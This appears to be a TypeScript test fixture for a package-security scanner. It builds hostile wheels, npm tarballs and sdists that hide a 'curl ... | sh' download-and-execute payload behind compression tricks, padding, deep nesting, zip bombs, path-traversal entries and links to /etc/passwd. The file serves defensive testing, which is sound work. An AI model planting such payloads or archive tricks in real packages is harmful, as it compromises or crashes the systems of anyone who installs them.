/**
 * Hostile inputs, generated at test time (nothing large is committed). Each returns the bytes of one
 * artifact; the payload is the same shell-piping download in every disguise, so the scan must find the
 * payload's own behaviors whatever hides it.
 */
import { gzipSync } from 'node:zlib';
import { buildTar, buildZip, type ZipEntrySpec } from '../../src/artifacts/testing/build-archives.ts';

export const PY_PAYLOAD = "import os\nos.system('curl -s http://203.0.113.7/x.sh | sh')\n";
export const JS_PAYLOAD = 'require("child_process").exec("curl -s http://203.0.113.7/x.sh | sh");\n';

const METADATA = 'Metadata-Version: 2.1\nName: hostile\nVersion: 1.0\n\n';
const WHEEL = 'Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\nTag: py3-none-any\n';

/** A wheel with METADATA and WHEEL around the given members. */
export function wheel(members: readonly ZipEntrySpec[]): Buffer {
  return buildZip([
    ...members,
    { name: 'hostile-1.0.dist-info/METADATA', data: METADATA },
    { name: 'hostile-1.0.dist-info/WHEEL', data: WHEEL },
  ]);
}

/**
 * The payload packed with LZMA (zip method 14), as Python's zipfile writes it with ZIP_LZMA. The stream
 * was made once with Python's lzma module (raw LZMA1, lc=3 lp=0 pb=2, 64 KiB dictionary) from PY_PAYLOAD;
 * Node has no LZMA encoder, and these 70 bytes are the only constant here.
 */
const LZMA_PAYLOAD =
  'XQAAAQAANJtKZ7hSPHPtNFe4XYIFGNWQGoqSWjA03R9RvWKKjuvTCzdkDdu2Ks+k4HpudY0nLCcoNgTW7lSfwvydXP09v//OqGAA';

export function lzmaWheel(): Buffer {
  const member = Buffer.concat([Buffer.from([9, 20, 5, 0]), Buffer.from(LZMA_PAYLOAD, 'base64')]);
  return wheel([
    { name: 'lz/__init__.py', data: member, method: 14, declaredSize: Buffer.byteLength(PY_PAYLOAD) },
  ]);
}

/** A member packed with a method no reader here knows (93, zstd), and an encrypted one. */
export function unreadableWheel(): Buffer {
  return wheel([
    { name: 'zs/__init__.py', data: Buffer.from(PY_PAYLOAD), method: 93 },
    { name: 'enc/__init__.py', data: Buffer.from(PY_PAYLOAD), method: 0, encrypted: true },
  ]);
}

/** Bytes that deflate compresses about 100:1, under the ratio limit: a 16 KiB pseudo-random block, repeated. */
function compressibleText(size: number, line: (seed: number) => string): string {
  const block: string[] = [];
  let seed = 7;
  for (let length = 0; length < 16 * 1024; ) {
    seed = (seed * 1103515245 + 12345) % 2 ** 31;
    const text = line(seed);
    block.push(text);
    length += text.length;
  }
  const unit = block.join('');
  return unit.repeat(Math.ceil(size / unit.length)).slice(0, size - (size % unit.length));
}

/** 9 MB of comment lines, then the payload. */
export function paddedWheel(): Buffer {
  const padding = compressibleText(9 * 1024 * 1024, (n) => `# ${n.toString(36).repeat(4)}\n`);
  return wheel([{ name: 'pad/__init__.py', data: padding + PY_PAYLOAD }]);
}

/** An npm tarball whose postinstall runs a file that opens with 50,000 nested arrays. */
export function deepNestingTarball(depth = 50_000): Buffer {
  const manifest = JSON.stringify({
    name: 'deep',
    version: '1.0.0',
    scripts: { postinstall: 'node install.js' },
  });
  const code = `var a=${'['.repeat(depth)}${']'.repeat(depth)};\n${JS_PAYLOAD}`;
  return gzipSync(
    buildTar([
      { name: 'package/package.json', data: manifest },
      { name: 'package/install.js', data: code },
    ]),
  );
}

/** The same, with the nesting spread over lines so that the parser, not the bundle reader, meets it. */
export function deepNestingLinesTarball(depth = 50_000): Buffer {
  const manifest = JSON.stringify({
    name: 'deep',
    version: '1.0.0',
    scripts: { postinstall: 'node install.js' },
  });
  const code = `var a=${'[\n'.repeat(depth)}${']'.repeat(depth)};\n${JS_PAYLOAD}`;
  return gzipSync(
    buildTar([
      { name: 'package/package.json', data: manifest },
      { name: 'package/install.js', data: code },
    ]),
  );
}

/**
 * A small zip whose `count` central entries all point at one deflate stream of `size` bytes: the
 * "overlapping members" bomb. Built by hand: one local header, many central entries with offset 0.
 */
export function overlappingZip(count = 250, size = 8 * 1024 * 1024): Buffer {
  // Comment lines, so each member reads as Python; about 100:1, so no member trips the ratio limit.
  const data = Buffer.from(compressibleText(size, (n) => `# ${n.toString(16)}\n`));
  const one = buildZip([{ name: 'm0.py', data }]);
  const localEnd = one.readUInt32LE(one.length - 22 + 16); // where the central directory starts
  const local = one.subarray(0, localEnd);
  const central = one.subarray(localEnd, one.length - 22);
  const entries: Buffer[] = [];
  for (let i = 0; i < count; i++) {
    const name = Buffer.from(`m${i}.py`);
    const header = Buffer.from(central.subarray(0, 46));
    header.writeUInt16LE(name.length, 28);
    entries.push(header, name);
  }
  const cd = Buffer.concat(entries);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(count, 8);
  end.writeUInt16LE(count, 10);
  end.writeUInt32LE(cd.length, 12);
  end.writeUInt32LE(local.length, 16);
  return Buffer.concat([local, cd, end]);
}

/** An sdist whose members climb out of the unpack folder, name system paths and link to system files. */
export function escapingSdist(marker: string, links = 200): Buffer {
  return gzipSync(
    buildTar([
      { name: 'hostile-1.0/PKG-INFO', data: METADATA },
      { name: `../../../../../../tmp/${marker}`, data: 'x' },
      { name: `/tmp/${marker}-abs`, data: 'x' },
      ...Array.from({ length: links }, (_, i) => ({
        name: `hostile-1.0/l${i}`,
        type: '2',
        linkname: '/etc/passwd',
      })),
    ]),
  );
}

/** A wheel whose first central directory name differs from its local header name. */
export function mismatchedNamesWheel(): Buffer {
  const zip = wheel([{ name: 'aa/__init__.py', data: 'VALUE = 1\n', method: 0 }]);
  const forged = Buffer.from(zip);
  forged.write('zz', 30, 'latin1');
  return forged;
}

/** A wheel with a stored member whose declared size lies, and a benign member after it. */
export function lyingStoredWheel(): Buffer {
  return wheel([
    { name: 'liar/__init__.py', data: Buffer.from(`${'#'.repeat(40)}\n`), method: 0, declaredSize: 10 },
    { name: 'ok/__init__.py', data: 'VALUE = 1\n' },
  ]);
}

/** A wheel behind 4 KB of junk (Python's zipfile reads it). */
export function prefixedWheel(): Buffer {
  return Buffer.concat([Buffer.alloc(4096, 0x5a), wheel([{ name: 'pre/__init__.py', data: PY_PAYLOAD }])]);
}

/** A classic deflate bomb: one member of 20 MB of zeros (a ratio of about 1,000, past the limit of 200). */
export function ratioBombWheel(): Buffer {
  return wheel([{ name: 'bomb/data.bin', data: Buffer.alloc(20 * 1024 * 1024) }]);
}

/** Python nested 100,000 parentheses deep, then the payload. */
export function deepPythonWheel(): Buffer {
  return wheel([
    { name: 'deep/__init__.py', data: `x = ${'('.repeat(100_000)}1${')'.repeat(100_000)}\n${PY_PAYLOAD}` },
  ]);
}

/** An npm tarball whose package.json is not valid JSON (a trailing comma) around a postinstall payload. */
export function brokenManifestTarball(): Buffer {
  const manifest =
    '{\n  "name": "broken",\n  "version": "1.0.0",\n  "scripts": {\n    "postinstall": "curl -s http://203.0.113.7/x.sh | sh",\n  },\n}\n';
  return gzipSync(buildTar([{ name: 'package/package.json', data: manifest }]));
}

/** A wheel whose METADATA holds `requires` Requires-Dist lines (distinct names), plus a payload module. */
export function manyRequiresWheel(requires: number): Buffer {
  const lines = Array.from({ length: requires }, (_, i) => `Requires-Dist: dep-${i} (>=1.0)`);
  const metadata = `Metadata-Version: 2.1\nName: hostile\nVersion: 1.0\n${lines.join('\n')}\n\n`;
  return buildZip([
    { name: 'many/__init__.py', data: 'VALUE = 1\n' },
    { name: 'hostile-1.0.dist-info/METADATA', data: metadata },
    { name: 'hostile-1.0.dist-info/WHEEL', data: WHEEL },
  ]);
}

/** A wheel whose METADATA is over 16 MiB (a long description), its real fields in front. */
export function oversizedMetadataWheel(size = 17 * 1024 * 1024): Buffer {
  const head = 'Metadata-Version: 2.1\nName: hostile\nVersion: 1.0\nRequires-Dist: evil-helper\n\n';
  const body = compressibleText(size, (seed) => `line ${seed.toString(36)} of a long description\n`);
  return buildZip([
    { name: 'big/__init__.py', data: 'VALUE = 1\n' },
    { name: 'hostile-1.0.dist-info/METADATA', data: head + body },
    { name: 'hostile-1.0.dist-info/WHEEL', data: WHEEL },
  ]);
}

/** An sdist whose pyproject.toml does not parse (an unclosed array), with PKG-INFO beside it. */
export function brokenPyprojectSdist(): Buffer {
  const pyproject =
    '[project]\nname = "hostile"\nversion = "1.0"\ndependencies = ["requests",\n\n[build-system]\nrequires = [\n';
  return gzipSync(
    buildTar([
      { name: 'hostile-1.0/PKG-INFO', data: METADATA },
      { name: 'hostile-1.0/pyproject.toml', data: pyproject },
      { name: 'hostile-1.0/hostile/__init__.py', data: 'VALUE = 1\n' },
    ]),
  );
}

/** `count` distinct junk modules of `size` bytes each (comment lines that differ per module), then the payload. */
export function manyJunkModulesWheel(count: number, size: number): Buffer {
  const members = Array.from({ length: count }, (_, i) => ({
    name: `junk/m${String(i).padStart(3, '0')}.py`,
    data: compressibleText(size, (n) => `# ${i} ${n.toString(36)}\n`),
  }));
  return wheel([...members, { name: 'junk/zz_payload.py', data: PY_PAYLOAD }]);
}
